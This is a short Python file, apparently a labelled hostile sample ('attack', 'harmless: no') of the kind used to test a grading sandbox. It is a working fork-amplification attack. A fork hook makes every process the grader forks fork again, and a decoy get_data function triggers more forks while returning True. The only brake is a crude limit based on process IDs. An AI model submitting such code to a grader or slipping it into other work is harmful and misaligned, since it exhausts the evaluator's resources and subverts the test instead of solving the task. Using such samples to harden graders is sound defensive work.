# attack: each fork that the grader asks for forks again, twice, before and after
# harmless: no
import os

pid = os.getpid()


def again():
    if os.getpid() - pid < 40:
        try:
            os.fork()
        except OSError:
            pass


os.register_at_fork(after_in_child=again)


def get_data(*args, **kwargs):
    again()
    return True
